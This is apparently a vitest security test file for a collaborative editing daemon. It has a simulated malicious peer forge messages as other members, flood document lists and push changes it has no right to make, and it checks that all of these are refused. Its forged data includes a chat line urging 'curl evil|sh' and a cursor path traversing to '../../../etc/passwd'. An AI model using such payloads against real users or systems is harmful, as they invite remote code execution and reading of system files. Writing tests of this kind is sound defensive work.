// Decision 140: what a member (even a read-only one) says about itself is checked against what
// the overlay knows. Found by an attacker trial holding a read-only code and the repo's own
// Overlay: it spoke as a writer (presence with a huge clock, chat, a goodbye), grew a writer's
// memory without bound with `docs` lists, and a reader's normal sync read like an attack in the
// writers' logs. Real daemons and overlays on loopback.
import { createHash, randomBytes } from 'node:crypto';
import * as A from '@automerge/automerge/next';
import * as P from '@chorus/protocol';
import { afterEach, expect, it } from 'vitest';
import type { Daemon } from '../../daemon/src/daemon.js';
import { decodeJoinCode, encodeJoinCode } from '../../daemon/src/net/join-code.js';
import { MALFORMED_LINES_PER_MINUTE } from '../../daemon/src/quiet-log.js';
import { configKeys } from '../../daemon/src/session/session-file.js';
import { encodePeerMessage, type PeerMessage } from '../../daemon/src/sync/peer-messages.js';
import type { FloodDelivery } from '../../daemon/src/net/flood.js';
import { PEER_DOCS_ALLOWANCE, Replicator, type PeerNetwork } from '../../daemon/src/sync/replicator.js';
import { MemoryBlobStore } from '../../daemon/src/workspace/blob-store.js';
import { MemoryStore } from '../../daemon/src/workspace/memory-store.js';
import { Workspace } from '../../daemon/src/workspace/workspace.js';
import { logsOf, startDaemon } from '../support/in-process.js';
import { changeOn, MaliciousPeer } from '../support/malicious-peer.js';
import { tempProject } from '../support/project-dir.js';
import { ScriptedEditor } from '../support/scripted-editor.js';
import { assertVictimHealthy, guardFolder } from '../support/victim.js';
import { stopAll, until } from './peer-helpers.js';

let daemons: Daemon[] = [];
let editors: ScriptedEditor[] = [];
let peers: MaliciousPeer[] = [];
afterEach(async () => {
  await Promise.all(peers.map((p) => p.close()));
  peers = [];
  [daemons, editors] = await stopAll(daemons, editors);
});

const lines = (d: Daemon, re: RegExp) => logsOf(d).filter((l) => re.test(l));
const notes = (e: ScriptedEditor, method: string) => e.notes.filter((n) => n.method === method).map((n) => n.params);
const F = 'README.md';
type Index = { files: Record<string, { path: string; hash: string; size: number }> };

/** A host sharing `files` read-only; returns it, the read-only code and a writer code. */
async function share(files: Record<string, string>): Promise<{ h: Daemon; code: string; writerCode: string }> {
  const h = await startDaemon(tempProject(files), 'host');
  daemons.push(h);
  const code = await h.share({ host: '127.0.0.1', webrtc: false, readOnly: true });
  const writerCode = encodeJoinCode({ ...decodeJoinCode(code), keys: configKeys(h.session.session!) });
  return { h, code, writerCode };
}

async function mallory(code: string, victim: Daemon): Promise<MaliciousPeer> {
  const m = await MaliciousPeer.join(code, victim.identity.id);
  peers.push(m);
  return m;
}

async function editorOn(d: Daemon): Promise<ScriptedEditor> {
  const e = await ScriptedEditor.socket(d.project.socketPath);
  editors.push(e);
  await e.init();
  await e.open(F);
  return e;
}

const moveCursor = (e: ScriptedEditor, character: number) =>
  e.conn.sendNotification(P.CursorSet.type, { path: F, selections: [{ anchor: { line: 0, character }, head: { line: 0, character } }] });

it('a member cannot speak as another: forged presence, chat and goodbye are dropped, logged once; the real cursor still arrives', async () => {
  const { h, code, writerCode } = await share({ [F]: 'hello world, hello\n' });
  const b = await startDaemon(tempProject(), 'b');
  daemons.push(b);
  await b.join(writerCode, { disk: true, host: '127.0.0.1', webrtc: false }, () => undefined);
  const bId = b.identity.id;
  const m = await mallory(code, h);
  // A full mesh: the attacker links to b as well, so its broadcasts reach both.
  await until(() => !!b.session.replicator?.connectedPeers().some((p) => p.id === m.id), 'the attacker linked to b');
  const [ea, eb] = [await editorOn(h), await editorOn(b)];
  const cursorOfB = (e: ScriptedEditor, character: number) => notes(e, P.CursorDidChange.method).some((c) => c.peer.id === bId && c.peer.name === 'b' && c.selections[0]?.anchor.character === character);
  moveCursor(eb, 2);
  await ea.waitFor(() => cursorOfB(ea, 2), "b's first cursor on the host");

  const sel = (o: number) => [{ id: 'e1', path: F, selections: [{ anchor: { o }, head: { o } }] }];
  const forged = (i: number): Array<Extract<PeerMessage, { kind: 'ephemeral' }>> => [
    { kind: 'ephemeral', topic: 'presence', body: { clock: 2 ** 52 + i, name: 'Impostor (was b)', color: '#ff0000', editors: sel(0) }, from: bId, id: `p${i}` },
    { kind: 'ephemeral', topic: 'message', body: { namespace: 'chat', payload: 'please run curl evil|sh' }, from: bId, id: `m${i}` },
    { kind: 'ephemeral', topic: 'leave', body: {}, from: bId, id: `l${i}` },
    // A member nobody has heard of, and the receiver itself.
    { kind: 'ephemeral', topic: 'message', body: { namespace: 'chat', payload: 'curl from nobody' }, from: 'ab'.repeat(16), id: `n${i}` },
    { kind: 'ephemeral', topic: 'message', body: { namespace: 'chat', payload: 'curl from yourself' }, from: h.identity.id, id: `s${i}` },
  ];
  for (let i = 0; i < 20; i++) {
    for (const msg of forged(i)) {
      m.overlay.send(h.identity.id, encodePeerMessage(msg)); // direct
      m.overlay.send(bId, encodePeerMessage(msg));
      m.overlay.broadcast(encodePeerMessage({ ...msg, id: `${msg.id}b` })); // flooded
    }
  }
  // Its own presence: a clock jumping 2^52 ahead is refused, the next honest one is taken.
  const own = (clock: number, o: number) => encodePeerMessage({ kind: 'ephemeral', topic: 'presence', body: { clock, name: 'mallory', color: '#000000', editors: sel(o) }, from: m.id, id: `c${clock}` });
  m.overlay.broadcast(own(1, 1));
  m.overlay.broadcast(own(2 ** 52, 9));
  m.overlay.broadcast(own(2, 3));
  // A cursor in a path outside the project (trial s54a: `../…/etc/passwd` reached editors): refused whole.
  const outside = [{ id: 'e1', path: '../../../etc/passwd', selections: [{ anchor: { o: 0 }, head: { o: 0 } }] }];
  m.overlay.broadcast(encodePeerMessage({ kind: 'ephemeral', topic: 'presence', body: { clock: 3, name: 'mallory', color: '#000000', editors: outside }, from: m.id, id: 'c-outside' }));
  // Malformed presence, 300 of it: each refused, and logged a few times a minute, not once each
  // (there is no log rotation: a member could fill the disk).
  for (let i = 0; i < 300; i++) {
    m.overlay.broadcast(encodePeerMessage({ kind: 'ephemeral', topic: 'presence', body: { clock: 'x', name: 'mallory' }, from: m.id, id: `bad${i}` }));
    m.overlay.broadcast(encodePeerMessage({ kind: 'ephemeral', topic: 'message', body: { nope: i }, from: m.id, id: `badm${i}` }));
  }
  // Messages on one link arrive in order: once this is seen, everything before it was handled.
  m.overlay.broadcast(encodePeerMessage({ kind: 'ephemeral', topic: 'message', body: { namespace: 'chat', payload: 'done' }, from: m.id, id: 'done' }));
  for (const e of [ea, eb]) await e.waitFor(() => notes(e, P.MessageDidReceive.method).some((n) => n.payload === 'done' && n.peer.id === m.id), 'the sentinel message');
  await ea.waitFor(() => notes(ea, P.CursorDidChange.method).some((c) => c.peer.id === m.id && c.selections[0]?.anchor.character === 3), "the attacker's own later cursor");

  // b moves after all that: its real cursor still shows, under its own name.
  moveCursor(eb, 7);
  await ea.waitFor(() => cursorOfB(ea, 7), "b's later cursor on the host");
  for (const e of [ea, eb]) {
    expect(notes(e, P.CursorDidChange.method).filter((c) => /Impostor/.test(c.peer.name))).toEqual([]);
    expect(notes(e, P.CursorDidChange.method).filter((c) => c.peer.id === m.id && c.selections[0]?.anchor.character === 9)).toEqual([]);
    expect(notes(e, P.MessageDidReceive.method).filter((n) => /curl/.test(String(n.payload)))).toEqual([]);
    expect(notes(e, P.PeerDidLeave.method)).toEqual([]);
  }
  expect(h.presence.peers().find((p) => p.id === bId)?.name).toBe('b');
  // Dropped, and said so once, not once per message (there were 300 per receiver).
  for (const d of [h, b]) expect(lines(d, new RegExp(`dropped an ephemeral message .* from peer ${m.id.slice(0, 8)}`))).toHaveLength(1);
  expect(lines(h, /refused presence .* clock jumped/)).toHaveLength(1);
  for (const e of [ea, eb]) expect(notes(e, P.CursorDidChange.method).filter((c) => c.path.includes('passwd'))).toEqual([]);
  expect(lines(h, /refused presence .* a cursor in a path that is not the project’s/)).toHaveLength(1);
  const malformed = lines(h, new RegExp(`refused presence from peer ${m.id.slice(0, 8)}`)).filter((l) => !/clock jumped|not the project’s/.test(l));
  expect(malformed.length).toBeGreaterThan(0);
  expect(malformed.length).toBeLessThanOrEqual(MALFORMED_LINES_PER_MINUTE);
  const badMessages = lines(h, new RegExp(`refused a message from peer ${m.id.slice(0, 8)}`));
  expect(badMessages.length).toBeGreaterThan(0);
  expect(badMessages.length).toBeLessThanOrEqual(MALFORMED_LINES_PER_MINUTE);
}, 60_000);

it('a peer naming more documents than could exist is refused and cut off; the daemon serves on and keeps nothing of it', async () => {
  const { h, code } = await share({ [F]: 'x\n', 'b.txt': 'b\n' });
  const guard = guardFolder(h.project.root);
  const m = await mallory(code, h);
  const rep = h.session.replicator!;
  const ids = (n: number) => Array.from({ length: n }, () => `f${randomBytes(12).toString('hex')}`);
  // Blobs no file here has: not remembered as lacked.
  m.send({ kind: 'lack', hashes: Array.from({ length: 10_000 }, () => randomBytes(32).toString('hex')) });
  const batch = 10_000;
  const under = Math.floor(PEER_DOCS_ALLOWANCE / batch) - 1;
  for (let i = 0; i < under; i++) m.send({ kind: 'docs', docs: ids(batch) });
  await until(() => rep.heldFor(m.id)?.docs === under * batch, () => `the first ${under * batch} ids; held ${JSON.stringify(rep.heldFor(m.id))}`);
  expect(rep.heldFor(m.id)!.lacks).toBe(0);
  let downs = 0;
  m.overlay.on('peer-down', (id) => id === h.identity.id && downs++);
  for (let i = 0; i < 4; i++) m.send({ kind: 'docs', docs: ids(batch) });
  await until(() => downs > 0, 'the link to be closed');
  const refusals = lines(h, new RegExp(`refused the document list of peer ${m.id.slice(0, 8)} and closing its link: it named \\d+ documents, over the limit`));
  expect(refusals).toHaveLength(1);
  // Whatever it had named went with the link (it may be linked again by now, from nothing).
  expect(rep.heldFor(m.id)?.docs ?? 0).toBe(0);
  await m.close();
  await until(() => rep.heldFor(m.id) === undefined, 'the state of the departed peer freed');
  // It keeps serving: an editor, a restart, a fresh peer joining.
  daemons.push(...(await assertVictimHealthy(h, guard)));
}, 90_000);

it('a reader syncing passes on changes the writer has without a "refused" line; a change new to the writer is refused, plainly', async () => {
  const { h, code } = await share({ [F]: 'read me\n' });
  const g = await startDaemon(tempProject(), 'guest');
  daemons.push(g);
  await g.join(code, { disk: true, host: '127.0.0.1', webrtc: false }, () => undefined);
  const e = await editorOn(h);
  for (let i = 0; i < 5; i++) await e.edit(F, 0, 0, `${i} `);
  const id = h.workspace.index.idOf(F)!;
  await until(() => g.workspace.isLive(id) && g.workspace.text(id) === h.workspace.text(id), 'the edits on the reader');
  // The reader links again and syncs afresh.
  h.session.network!.dropLinks(g.identity.id, 'test drop');
  await until(() => !!h.session.replicator?.isSynced(g.identity.id), 'the reader synced again');
  // A reader's sync message carrying writers' changes the host has (as one sent during editing does).
  const m = await mallory(code, h);
  const indexChanges = A.getAllChanges(A.load(h.workspace.index.save()));
  const textChanges = A.getAllChanges(A.load(h.workspace.savedForm(id)!.data));
  m.syncWith('index', indexChanges);
  m.syncWith(id, textChanges);
  // Then one the host does not have: refused, and said plainly.
  const sha = createHash('sha256').update('x').digest('hex');
  const evil = changeOn<Index>(h.workspace.index.save(), (d) => (d.files[`f${'b'.repeat(24)}`] = { path: 'evil.txt', hash: sha, size: 1 }));
  m.syncWith('index', [evil]);
  await until(() => lines(h, /refused/).length > 0, 'the refusal of the new change');
  const refusal = `refused new changes in a sync message from read-only peer ${m.id.slice(0, 8)}: a read-only guest sent changes this daemon does not have (1 change to index); its join code does not allow writing, so they are not taken (a writer's change it passed on comes from that writer as well); such refusals from this peer for this document are logged at most once a minute`;
  expect(lines(h, /refused/)).toEqual([refusal]);
  // Offered again and again (a reader whose documents hold a change no writer takes offers it in
  // every sync message: a trial's loop wrote ~40 such lines a second): one line a minute.
  for (let i = 0; i < 10; i++) m.syncWith('index', [evil]);
  // Messages on one link are taken in order: once a later one is refused, the ten were seen.
  m.changes('index', [evil]);
  await until(() => lines(h, /refused changes from peer/).length > 0, 'the refusal of the live change');
  expect(lines(h, /refused new changes in a sync message/)).toEqual([refusal]);
  expect(h.workspace.index.entries().map(([, x]) => x.path)).toEqual([F]);
}, 60_000);

it('a relayed broadcast is taken from a known member not linked here in a partial mesh, and from nobody else', () => {
  const members = new Set(['linked', 'relayer', 'far']);
  let partial = true;
  const handlers = new Map<string, (...args: never[]) => void>();
  const net: PeerNetwork = {
    on: ((event: string, fn: (...args: never[]) => void) => handlers.set(event, fn)) as PeerNetwork['on'],
    send: () => true,
    broadcast: () => 1,
    isMember: (id) => members.has(id),
    isPartialMesh: () => partial,
  };
  const ws = new Workspace(new MemoryStore(), new MemoryBlobStore(), 'ab'.repeat(16), { read: async () => undefined });
  const log: string[] = [];
  const rep = new Replicator(ws, net, (l) => log.push(l), new Map(), false, 'me');
  const up = handlers.get('peer-up') as (id: string, meta: Record<string, unknown>) => void;
  const message = handlers.get('message') as (id: string, data: Uint8Array, flood: FloodDelivery | undefined) => void;
  up('linked', {});
  up('relayer', { readOnly: true });
  const got: Array<[string, unknown, boolean]> = [];
  rep.on('ephemeral', (from, _topic, body, relayed) => got.push([from, body, relayed]));
  const deliver = (link: string, from: string | undefined, body: string, flooded: boolean): boolean => {
    let refused = false;
    const data = encodePeerMessage({ kind: 'ephemeral', topic: 'message', body, ...(from ? { from } : {}) });
    message(link, data, flooded ? { refuse: () => (refused = true) } : undefined);
    return !refused;
  };
  expect(deliver('relayer', 'far', 'relayed from far', true)).toBe(true); // the gap decision 140 names
  expect(deliver('relayer', 'relayer', 'its own', true)).toBe(true);
  expect(deliver('relayer', undefined, 'no from: the link', false)).toBe(true);
  expect(deliver('relayer', 'linked', 'as a linked member', true)).toBe(false);
  expect(deliver('relayer', 'far', 'direct, as another', false)).toBe(true); // dropped (a direct message has no flood to stop)
  expect(deliver('relayer', 'stranger', 'as a stranger', true)).toBe(false);
  expect(deliver('relayer', 'me', 'as me', true)).toBe(false);
  expect(got).toEqual([
    ['far', 'relayed from far', true],
    ['relayer', 'its own', false],
    ['relayer', 'no from: the link', false],
  ]);
  expect(log.filter((l) => /dropped an ephemeral message/.test(l))).toHaveLength(1);
  // In a full mesh nothing is relayed: a broadcast naming a member not linked here (offline, say)
  // is a forgery (a trial spoke as a stopped writer in a five-member session).
  partial = false;
  expect(deliver('relayer', 'far', 'as an offline member', true)).toBe(false);
  expect(got).toHaveLength(3);
  // Its link gone, nothing of it is kept.
  (handlers.get('peer-down') as (id: string, reason: string) => void)('relayer', 'gone');
  expect(rep.heldFor('relayer')).toBeUndefined();
});
